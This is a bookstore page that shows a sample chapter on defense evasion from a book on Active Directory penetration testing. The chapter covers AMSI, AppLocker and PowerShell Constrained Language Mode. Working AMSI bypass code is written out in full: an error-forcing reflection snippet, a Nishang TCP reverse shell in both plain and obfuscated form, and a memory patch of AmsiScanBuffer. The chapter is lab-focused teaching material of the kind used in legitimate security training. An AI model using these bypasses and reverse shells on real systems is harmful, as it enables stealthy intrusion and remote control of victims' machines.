Search icon
Cart icon
Close icon
You have no products in your basket yet
Save more on your purchases!
Savings automatically calculated. No voucher code required
Arrow left icon
All Products
Best Sellers
New Releases
Learning Hub
Free Learning
Arrow right icon
Over 7,000 tech titles at $9.99 each with AI-powered learning assistants on new releases
Pentesting Active Directory and Windows-based Infrastructure
Pentesting Active Directory and Windows-based Infrastructure

Pentesting Active Directory and Windows-based Infrastructure: A comprehensive practical guide to penetration testing Microsoft infrastructure

By Denis Isakov
$35.99 $9.99
Full star icon Full star icon Full star icon Full star icon Full star icon 5 (1 Ratings)
Book Nov 2023 360 pages 1st Edition
$35.99 $9.99
$15.99 Monthly
$35.99 $9.99
$15.99 Monthly

What do you get with eBook?

Product feature icon Instant access to your Digital eBook purchase
Product feature icon Download this book in EPUB and PDF formats
Product feature icon AI Assistant (beta) to help accelerate your learning
Product feature icon Access this title in our online reader with advanced features
Product feature icon DRM FREE - Read whenever, wherever and however you want
Buy Now

Product Details

Publication date : Nov 17, 2023
Length 360 pages
Edition : 1st Edition
Language : English
ISBN-13 : 9781804611364Concepts :
Table of content icon View table of contents Preview book icon Preview Book

Pentesting Active Directory and Windows-based Infrastructure

Defense Evasion

The main idea of this chapter is simple – know your tooling. It can be very tempting to start pulling fresh tooling from GitHub after getting an initial foothold on the target machine, looking for low-hanging fruit and quick wins. It may work well in some training labs to learn about attackingconcepts; however, during real engagement, a mature opponent can easily detect your malicious activity. There are quite a lot of professionally written tools for both defense and offense, not to mention C2 frameworks, vendor EDRs, and so on.

This chapter is not a fully comprehensive guide on how to evade all possible detection. Evasion is a constantly evolving game between the sword and the shield. Several factors can influence the way offensive operation is going, including preparation, the development of specific tooling, the team’s skill set, and the capabilities of both sides. We are not going to touch EDR/antivirus evasion. Excellent books have been published that will teach you how to find and develop possible bypasses, including attacking security solutions themselves.

We will focus on built-in security capabilities that can be deployed and enforced in the Windows environment. In this chapter, we are going to cover the following main topics:

  • AMSI, AppLocker, and PowerShell Constrained Language Mode (CLM) deployment and bypass
  • Deploy PowerShell Enhanced Logging, evade it, and use Sysmon to detect yourself
  • What is ETW? What extra capabilities and insights can it provide?

Technical requirements

In this chapter, you will use only two VMs from the GOADv2 lab – DC01 and SRV01. Ensure that SRV01 is a domain-joined machine, as we are going to use Group Policies during this chapter.

AMSI, PowerShell CLM, and AppLockerIn this section, we will discuss some of the built-in capabilities in Windows that can limit attacker’s actions on the compromised machine. AMSI, AppLocker, and PowerShell CLM can be bypassed in different ways, but considering them as defense in depth is a good decision. As usual, we need to know the limitations and cover bypasses where it is possible.

Antimalware Scan Interface

Let’s first discuss what Antimalware Scan Interface (AMSI) is. Microsoft developed it to provide a set of API calls for applications, including any third-party applications, to perform a signature-based scan of the content. Windows Defender uses it to scan PowerShell scripts, .NET, VBA macros, Windows Script Host (WSH), VBScript, and JavaScript to detect common malware. The important thing about AMSI is that you do not need to deploy it; it has been there since Windows 10.

In plain words, the AMSI algorithm works as follows:

  1. amsi.dll will be loaded into the process memory space; for example, PowerShell and AmsiInitialize will be called.
  2. Then, AmsiOpenSession is called, which opens a session for a scan.
  3. The script content will be scanned before the execution invoking one of the APIs is called –AmsiScanBuffer or AmsiScanString.
  4. If the content is clear from known malicious signatures, Microsoft Defender will return 1 as the result and the script will be executed.

To confirm this AMSI behavior, we can use Process Hacker[1] or API monitor[2]. These open source tools allow us to see loaded in-process modules, get information about them, and a lot of other information. In the following screenshot, we can see the loaded amsi.dll and a list of exported functions:

Figure 2.1 – Loaded amsi.dll and exported functions

Figure 2.1 – Loaded amsi.dll and exported functions

One important caveat from the Microsoft documentation is as follows – “But you ultimately need to supply the scripting engine with plain, un-obfuscated code. And that is the point at which you invoke the AMSI APIs.” A quick test to prove this statement is as follows:

Figure 2.2 – Detection and concatenation

Figure 2.2 – Detection and concatenation

It looks trivial. We can split the string first and then bypass AMSI using concatenation, but in more complex code this approach will require much more effort. There are a few strategies that were used by researchers to develop reliable bypasses – encoding/obfuscation, hooking, memory patching, forcing an error,registry key modification, and DLL hijacking. You can find two great compiled lists of bypasses and credits to original research created by S3cur3Th1sSh1t[3] and Pentest Laboratories[4]. Some of the bypasses look like a one-liner, but I highly encourage you to dive deeper and review them, read the original research, and follow the thought process. It’s also worth mentioning that not every bypass will be successful, as Microsoft tries to patch them as well. The chances are not great that the good old base64-encoded one-liners will do the trick. The best wayto ensure that your bypass will work in the target environment is to precisely identify the victim’s OS version, recreate it in your lab environment, and test, test, test.


For some quick wins, there is a great free website developed by Flangvik (, where you can generate various PowerShell snippets to disable or break AMSI. Another helpful tool is Invoke-Obfuscation[5], written by Daniel Bohannon. This tool has different modes. For me, AST mode was the one that provided reliable bypasses most of the time. The idea is that the script will be obfuscated in such a way that it breaks the AST parsing algorithm in AMSI.

We will try to bypass AMSI using three different techniques: error forcing, obfuscation, and memory patching. As mentioned previously, I will use the SRV01 machine:

Get-WmiObject Win32_OperatingSystem | Select PSComputerName, Caption, Version | fl
Caption        : Microsoft Windows Server 2019 Datacenter Evaluation
Version        : 10.0.17763

Way 1 – Error forcing

Let’s first look at error-forcing code and a bit of split/concatenate fantasy:

$w = 'System.Management.Automation.A';$c = 'si';$m = 'Utils'
$assembly = [Ref].Assembly.GetType(('{0}m{1}{2}' -f $w,$c,$m))
$field = $assembly.GetField(('am{0}InitFailed' -f $c),'NonPublic,Static')

The result of running the preceding commands is shown in the following screenshot:

Figure 2.3 – Error forcing

Figure 2.3 – Error forcing

Way 2 – Obfuscation

For AST obfuscation, let’s try to get reverse shell callback using PowerShellTcpOneLine.ps1 from the Nishang framework[6] and the previously mentioned Invoke-Obfuscation tool. We will set up a listener on port 443 with powercat[7] on another Windows box. Here is the original reverse shell code:

$client = New-Object System.Net.Sockets.TCPClient('',443);$stream = $client.GetStream();[byte[]]$bytes =0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2  = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()

When we try to run it, AMSI catches us:

Figure 2.4 – AMSI blocks original reverse shell

Figure 2.4 – AMSI blocks original reverse shell

Let’s run the Invoke-Obfuscation tool, choosing AST obfuscation, and providing the path to our original reverse shell. After obfuscation, the code looked like this:

Set-Variable -Name client -Value (New-Object System.Net.Sockets.TCPClient('',443));Set-Variable -Name stream -Value ($client.GetStream());[byte[]]$bytes = 0..65535|%{0};while((Set-Variable -Name i -Value ($stream.Read($bytes, 0, $bytes.Length))) -ne 0){;Set-Variable -Name data -Value ((New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i));Set-Variable -Name sendback -Value (iex $data 2>&1 | Out-String );Set-Variable -Name sendback2 -Value ($sendback + 'PS ' + (pwd).Path + '> ');Set-Variable -Name sendbyte -Value (([text.encoding]::ASCII).GetBytes($sendback2));$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()

The result obtained by running the preceding commands is as follows:

Figure 2.5 – Obfuscated reverse shell callback

Figure 2.5 – Obfuscated reverse shell callback

Way 3 – Memory patch

There are a few ways we can manipulate AMSI in memory toachieve the bypass. The key reasoning behind this is that we are in full control of the process where amsi.dll will be loaded. One of the examples is to force AmsiScanBuffer to return AMSI_RESULT_CLEAN. The general idea is to import API calls and then return a specific value to the AmsiScanBuffer() call: 0x80070057. The original bypass is detected by AMSI now, so we can manipulate with assembly instructions by using a double add operand and successfully bypass the control. The code for this is as follows:

$Win32 = @"
using System;
using System.Runtime.InteropServices;
public class Win32 {
    public static extern IntPtr GetProcAddress(IntPtr hModule, string procName);
    public static extern IntPtr LoadLibrary(string name);
    public static extern bool VirtualProtect(IntPtr lpAddress, UIntPtr dwSize, uint flNewProtect, out uint lpflOldProtect);
Add-Type $Win32
$test = [Byte[]](0x61, 0x6d, 0x73, 0x69, 0x2e, 0x64, 0x6c, 0x6c)
$LoadLibrary = [Win32]::LoadLibrary([System.Text.Encoding]::ASCII.GetString($test))
$test2 = [Byte[]] (0x41, 0x6d, 0x73, 0x69, 0x53, 0x63, 0x61, 0x6e, 0x42, 0x75, 0x66, 0x66, 0x65, 0x72)
$Address = [Win32]::GetProcAddress($LoadLibrary, [System.Text.Encoding]::ASCII.GetString($test2))
$p = 0
[Win32]::VirtualProtect($Address, [uint32]5, 0x40, [ref]$p)
$Patch = [Byte[]] (0x31, 0xC0, 0x05, 0x78, 0x01, 0x19, 0x7F, 0x05, 0xDF, 0xFE, 0xED, 0x00, 0xC3)
#0:  31 c0                   xor    eax,eax
#2:  05 78 01 19 7f          add    eax,0x7f190178
#7:  05 df fe ed 00          add    eax,0xedfedf
#c:  c3                      ret
#for ($i=0; $i -lt$Patch.Length;$i++){$Patch[$i] = $Patch[$i] -0x2}
[System.Runtime.InteropServices.Marshal]::Copy($Patch, 0, $Address, $Patch.Length)

The resultobtained by running the preceding commands is as follows:

Figure 2.6 – Successful AMSI disarm using memory patching

Figure 2.6 – Successful AMSI disarm using memory patching

Also, as an attacker, we cannot ignore the fact that some defensive mechanisms can be abused as well as bypassed. A great examplewas published by netbiosX[8], which stated that AMSI can be used to achieve persistence on the compromised host. Using previous research and their coding skills, a fake AMSI provider was developed and registered on the compromised host. Using a special keyword, we can initiate a callback home from our backdoor.

All the techniques mentioned here will leave some sort of trace on the victim’s machine. Moreover, even successful bypasses can still be caught by defenders. Excellent blog posts by Pentest Laboratories[9] and F-Secure[10] show how to create detections and share excellent ready-to-use recipes.

In the next section, we are going to discuss two security controls that are quite often deployed in corporate environments.

AppLocker and PowerShell CLM

AppLocker was added by Microsoft in Windows 7 as a successor to the older Software Restriction Policies (SRP). It was supposed to be a comprehensive application white-listing solution. With this feature, you can limit not only applications, but also scripts, batches, DLLs, and more. There are a few ways that a limit can be applied: by Name, Path, Publisher, or Hash. As stated by Microsoft, AppLocker is a security feature, not a boundary. Nowadays, the recommendation is to enforce Windows Defender Application Control (WDAC) as restrictively as possible and then use AppLocker to fine-tune the restrictions. However, incomplex enterprise environments, it is still common to see AppLocker alone as it is easier to deploy and administrate.

To understand in more detail how AppLocker is working, I recommend you read four parts of Tyraniddo’s blog[11] about this feature. He starts the journey with the AppLocker setup and overview. In part 2, the author reveals how the process creation is blocked by the operating system’s kernel, followed by a clear example. Part 3 is devoted to rule processing, covering access tokens and access checks. Some basic understanding of security descriptors and tokens will not hurt the reader. The final part has a full focus on DLL blocking.

Now that we know what AppLocker is, why do we need anything on top? What is PowerShell CLM, and how does it relate to AppLocker? In short, we can limit PowerShell sensitive language capabilities to the users by enabling CLM. Some examples of thesesensitive capabilities are Windows API invocation, creating arbitrary types, and dot sourcing[12].

